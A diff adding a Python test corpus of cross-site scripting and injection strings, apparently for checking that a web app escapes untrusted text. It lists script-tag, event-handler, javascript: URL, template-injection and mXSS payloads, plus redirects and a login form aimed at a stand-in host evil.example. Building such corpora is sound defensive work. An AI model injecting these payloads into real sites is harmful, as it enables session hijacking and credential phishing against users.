@@ -1,0 +1,36 @@
+"""Texts that would do something in a browser if a page let them."""
+
+from __future__ import annotations
+
+CORPUS = (
+    "<script>window.pwned = 1</script>",
+    "</script><script>window.pwned = 1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1><style>*{display:none}</style></svg>",
+    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
+    '"><input autofocus onfocus=window.pwned=1>',
+    "' onmouseover='window.pwned=1",
+    "<style>body{display:none}</style>",
+    '<a href="javascript:window.pwned=1">click</a>',
+    "javascript:window.pwned=1",
+    'https://example.com/"onmouseover="window.pwned=1',
+    "https://example.com/'onmouseover='window.pwned=1",
+    "[click](javascript:window.pwned=1)",
+    "data:text/html,<script>window.pwned=1</script>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><button>Log in</button></form>",
+    "</pre></div></textarea></title><script>window.pwned=1</script>",
+    "<!--<script>window.pwned=1</script>-->",
+    "{{ constructor.constructor('window.pwned=1')() }}",
+    "{% load i18n %}{{ request.user.password }}",
+    "${window.pwned=1}",
+    "\u202eevil\u202c https://example.com/\u202egnp.exe",
+    "\u2028window.pwned=1\u2029",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "&#106;avascript:window.pwned=1",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
+    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
+    "\x1b[31m\x07\x08\x7f",
+)
